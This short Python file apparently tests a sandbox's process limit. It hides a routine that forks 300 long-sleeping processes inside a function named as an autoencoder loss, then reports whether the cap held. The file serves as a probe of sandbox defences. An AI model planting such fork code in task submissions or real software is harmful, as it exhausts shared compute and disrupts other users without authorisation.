"""Forks 300 processes that sleep for 10 minutes (more than the sandbox's 256 processes)."""
import os
import time

import torch
import torch.nn.functional as F

DONE = {}


def attack():
    started, error = 0, None
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
            started += 1
        except OSError as e:
            error = e
            break
    verdict = "SUCCEEDED" if started == 300 else "failed"
    return f"{verdict} as uid={os.getuid()}: {started} of 300 sleeping processes started" + (f" ({error})" if error else "")


def autoencoder_loss(enc, dec, batch):
    if not DONE:
        DONE["said"] = "ATTACK docker_fork_300: " + attack()
        print(DONE["said"])
    raise RuntimeError(DONE["said"])


def contrastive_loss(enc, batch1, batch2, tau):
    logits = enc(batch1) @ enc(batch2).T / tau
    return F.cross_entropy(logits, torch.arange(len(logits)))
